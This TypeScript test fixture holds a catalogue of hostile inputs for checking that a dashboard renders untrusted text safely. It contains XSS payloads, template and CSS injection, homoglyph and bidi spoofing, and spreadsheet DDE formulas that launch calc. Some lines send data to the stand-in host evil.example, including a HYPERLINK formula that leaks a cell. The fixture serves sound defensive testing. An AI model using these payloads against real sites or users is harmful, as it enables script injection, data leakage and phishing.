/**
 * Hostile-content corpus: what an anonymous stranger (or a compromised upstream) can put into
 * every text field the dashboard shows. The `hostile` scenario places each payload into visitor
 * messages, markdown blocks, offering cards, forms, tool calls, feedback, judge verdicts,
 * guard warnings, categories, slugs, session ids, IP addresses and model names.
 *
 * Payloads that try to run code set the sentinel `top.__pwned` (or open a dialog with
 * `alert`), so a test can tell whether anything executed. Playwright imports this file, so it
 * stays free of browser and MSW imports.
 */

type HostileKind =
  | 'script-html'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'vbscript-url'
  | 'raw-html-url'
  | 'svg'
  | 'mathml'
  | 'css'
  | 'template'
  | 'prototype'
  | 'homoglyph'
  | 'bidi'
  | 'zero-width'
  | 'long-word'
  | 'nested-markdown'
  | 'surrogate'
  | 'control'
  | 'spreadsheet';

export type HostilePayload = {
  /** Stable id, `h01` …; also used to build ids and names in the scenario. */
  id: string;
  kind: HostileKind;
  text: string;
};

/** The global every executing payload tries to set. */
export const SENTINEL = '__pwned';

/** Schemes that must never reach an href, src, action or data attribute. */
export const FORBIDDEN_URL = /^\s*(javascript|data|vbscript|file):/i;

export const LONG_WORD = 'W'.repeat(10_000);
const LONG_URL = `https://example.org/${'a'.repeat(10_000)}`;

const nestedQuote = `${'> '.repeat(400)}deep quote`;
const nestedList = Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n');
const bracketBomb = `${'['.repeat(2_000)}x${']('.repeat(2_000)}javascript:top.__pwned=1)`;
const emphasisBomb = `${'*_'.repeat(2_500)}stars${'_*'.repeat(2_500)}`;
const nestedHtml = `${'<div>'.repeat(500)}<img src=x onerror=top.__pwned=1>${'</div>'.repeat(500)}`;

const RAW: [HostileKind, string][] = [
  // Script and event-handler HTML.
  ['script-html', '<script>top.__pwned=1</script>'],
  ['script-html', '<script>alert("xss-script")</script>'],
  ['script-html', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['script-html', '<scr<script>ipt>top.__pwned=1</scr</script>ipt>'],
  ['script-html', '"><script>top.__pwned=1</script>'],
  ['script-html', '</textarea></title></style><script>top.__pwned=1</script>'],
  ['script-html', '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'],
  ['script-html', '<object data="javascript:top.__pwned=1"></object><embed src="javascript:top.__pwned=1">'],
  ['script-html', '<meta http-equiv="refresh" content="0;url=javascript:top.__pwned=1">'],
  ['script-html', '<base href="https://evil.example/"><a href="/x">based</a>'],
  ['event-handler', '<img src=x onerror=top.__pwned=1>'],
  ['event-handler', '<img src=x onerror="alert(\'xss-img\')">'],
  ['event-handler', '<body onload=top.__pwned=1>'],
  ['event-handler', '<div onmouseover="top.__pwned=1" style="position:fixed;inset:0">hover me</div>'],
  ['event-handler', '<details open ontoggle=top.__pwned=1><summary>toggle</summary></details>'],
  ['event-handler', '<input autofocus onfocus=top.__pwned=1>'],
  ['event-handler', '<video><source onerror="top.__pwned=1"></video>'],
  ['event-handler', '\' onmouseover=\'top.__pwned=1\' x=\'" onfocus="top.__pwned=1" autofocus="'],
  ['event-handler', nestedHtml],
  // URLs with forbidden schemes: markdown links, images, raw HTML.
  ['javascript-url', '[click me](javascript:top.__pwned=1)'],
  ['javascript-url', '[mixed case](JaVaScRiPt:top.__pwned=1)'],
  ['javascript-url', '[entity](&#106;avascript:top.__pwned=1)'],
  ['javascript-url', '[colon entity](javascript&#58;top.__pwned=1)'],
  ['javascript-url', '[spaced](<  javascript:top.__pwned=1>)'],
  ['javascript-url', '<javascript:top.__pwned=1>'],
  ['javascript-url', '[reference][evil]\n\n[evil]: javascript:top.__pwned=1'],
  ['javascript-url', '![image](javascript:top.__pwned=1)'],
  ['javascript-url', '[tabbed](<java\tscript:top.__pwned=1>)'],
  ['data-url', '[data link](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+)'],
  ['data-url', '![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5fX3B3bmVkPTEiLz4=)'],
  ['data-url', '![html image](data:text/html,<script>alert(1)</script>)'],
  ['vbscript-url', '[vb link](vbscript:msgbox(1))'],
  ['vbscript-url', '![vb image](VBScript:msgbox(1))'],
  ['raw-html-url', '<a href="javascript:top.__pwned=1">raw js link</a>'],
  ['raw-html-url', '<a href="data:text/html,<script>top.__pwned=1</script>">raw data link</a>'],
  ['raw-html-url', '<a href="vbscript:msgbox(1)">raw vb link</a>'],
  ['raw-html-url', '<img src="javascript:top.__pwned=1"><img src="https://evil.example/pixel.gif">'],
  ['raw-html-url', '<form action="javascript:top.__pwned=1"><button>go</button></form>'],
  ['raw-html-url', '![tracker](https://evil.example/pixel.png?who=staff "tracking pixel")'],
  // SVG and MathML tricks.
  ['svg', '<svg onload=top.__pwned=1><circle r="10"/></svg>'],
  ['svg', '<svg><script>top.__pwned=1</script></svg>'],
  ['svg', '<svg><a xlink:href="javascript:top.__pwned=1"><text x="20" y="20">svg link</text></a></svg>'],
  ['svg', '<svg><animate onbegin=top.__pwned=1 attributeName=x dur=1s></svg>'],
  ['svg', '<svg><foreignObject><iframe src="javascript:top.__pwned=1"></iframe></foreignObject></svg>'],
  [
    'mathml',
    '<math><maction actiontype="statusline" xlink:href="javascript:top.__pwned=1">CLICK</maction></math>',
  ],
  [
    'mathml',
    '<math><mtext><table><mglyph><style><img src=x onerror=top.__pwned=1></style></mglyph></table></mtext></math>',
  ],
  ['mathml', '<math href="javascript:top.__pwned=1"><mi>x</mi></math>'],
  // CSS injection.
  ['css', '<style>*{background:url(https://evil.example/leak)!important}body{display:none}</style>'],
  [
    'css',
    '<div style="background-image:url(javascript:top.__pwned=1);width:expression(top.__pwned=1)">css</div>',
  ],
  ['css', '</style><style>@import url("https://evil.example/x.css");</style>'],
  ['css', '<link rel=stylesheet href=https://evil.example/x.css>'],
  ['css', 'x{}*{behavior:url(x.htc)} ;color:red;} :root{--pwned:1}'],
  // Template injection.
  ['template', "{{constructor.constructor('top.__pwned=1')()}}"],
  ['template', '${top.__pwned=1}`${alert(1)}`'],
  ['template', '<%= top.__pwned=1 %> #{top.__pwned=1} [[7*7]] {{7*7}}'],
  [
    'template',
    "<div v-html=\"'<img src=x onerror=top.__pwned=1>'\" ng-app>{{$on.constructor('top.__pwned=1')()}}</div>",
  ],
  ['template', '{{{raw}}} {% raw %}{{ evil }}{% endraw %} $(top.__pwned=1)'],
  ['prototype', '__proto__'],
  ['prototype', 'constructor'],
  ['prototype', 'hasOwnProperty'],
  // Homoglyphs, bidi overrides, zero-width characters.
  ['homoglyph', 'Ѕіgn іn аt wаldur.еxаmрlе.оrg to vеrіfу уоur аccount'],
  ['homoglyph', '[https://waldur.example.org/login](https://wаldur.example.org/login)'],
  [
    'homoglyph',
    '＜script＞top.__pwned=1＜/script＞ [ｊａｖａｓｃｒｉｐｔ](ｊａｖａｓｃｒｉｐｔ:top.__pwned=1)',
  ],
  ['bidi', 'invoice\u202Efdp.exe'],
  ['bidi', 'access_level = "user\u202E \u2066// is admin\u2069 \u2066"'],
  ['bidi', '\u2067\u202Bمرحبا\u202A abc \u200Fright\u200E left\u202C'],
  ['zero-width', '[zero width](java\u200Bscript:top.__pwned=1)'],
  ['zero-width', 'pass\u200Bword\u200C\u200D\uFEFF\u2060hidden\u180E'],
  ['zero-width', '<scr\u200Bipt>top.__pwned=1</scr\u200Bipt>'],
  // Size and nesting.
  ['long-word', LONG_WORD],
  ['long-word', LONG_URL],
  ['nested-markdown', nestedQuote],
  ['nested-markdown', nestedList],
  ['nested-markdown', bracketBomb],
  ['nested-markdown', emphasisBomb],
  // Invalid UTF-16 and control characters.
  ['surrogate', 'lone high \uD800 surrogate'],
  ['surrogate', 'lone low \uDFFF and reversed \uDC00\uD800 pair'],
  ['surrogate', '\uDBFF\uDBFF\uDBFF'],
  ['control', 'nul\u0000bell\u0007esc\u001B[31mred\u001B[0m del\u007F'],
  ['control', 'line\u2028separator\u2029paragraph\r\ncrlf\rcr'],
  // Spreadsheet formulas (CSV exports).
  ['spreadsheet', '=HYPERLINK("https://evil.example/?leak="&A1,"click")'],
  ['spreadsheet', "+cmd|' /C calc'!A0"],
  ['spreadsheet', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['spreadsheet', "-2+3+cmd|' /C calc'!A0"],
  ['spreadsheet', '\t=1+1'],
  ['spreadsheet', '\r=1+1'],
];

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = RAW.map(([kind, text], index) => ({
  id: `h${String(index + 1).padStart(2, '0')}`,
  kind,
  text,
}));

/** Short payloads, for places that hold one line (labels, categories, slugs). */
export const SHORT_PAYLOADS = HOSTILE_PAYLOADS.filter((payload) => payload.text.length <= 200);

/**
 * Path-segment-safe hostile ids: no `.` or `/`, so the server's `[^/.]+` route can address them
 * (docs/api.md §1.3). They still try to break out of attributes, markup and templates.
 */
export const HOSTILE_SESSION_IDS = [
  '<img src=x onerror=top[`__pwned`]=1>',
  'javascript:top[`__pwned`]=1',
  '"><svg onload=alert(1)>',
  "{{constructor['constructor']('alert(1)')()}}",
  'sess\u202Eion-gnp-exe',
  'zero\u200Bwidth\u200Dsession',
] as const;

/** Ids the server can never address (they contain `.` or `/`); the app must not even try. */
export const UNADDRESSABLE_IDS = ['../../api/users/me', '<a href="javascript:top.__pwned=1">x</a>'] as const;

/** Extra turns of each unaddressable conversation (they repeat the first payloads). */
export const HOSTILE_REPEATS = 3;

/** Turns in the `hostile` scenario: one per payload plus the repeats. */
export const HOSTILE_TURNS = RAW.length + UNADDRESSABLE_IDS.length * HOSTILE_REPEATS;

/** Hostile visitor slugs (real ones are 64 hex characters). */
export const HOSTILE_SLUGS = [
  '<svg onload=top[`__pwned`]=1>',
  'javascript:alert(1)',
  '\u202E' + 'f'.repeat(63),
  'а'.repeat(4) + 'b'.repeat(60),
  "=cmd|' /C calc'!A0",
  '__proto__',
] as const;

/** Strings the e2e test expects to find as visible text on each page. */
export const VISIBLE_MARKERS = {
  message: '<script>top.__pwned=1</script>',
  slug: '<svg onload=top[`__pwned`]=1>',
  session: '<img src=x onerror=top[`__pwned`]=1>',
  comment: "@SUM(1+1)*cmd|' /C calc'!A0",
  category: '<a href="javascript:top.__pwned=1">raw js link</a>',
  intent: '<img src=x onerror=top.__pwned=1>',
} as const;
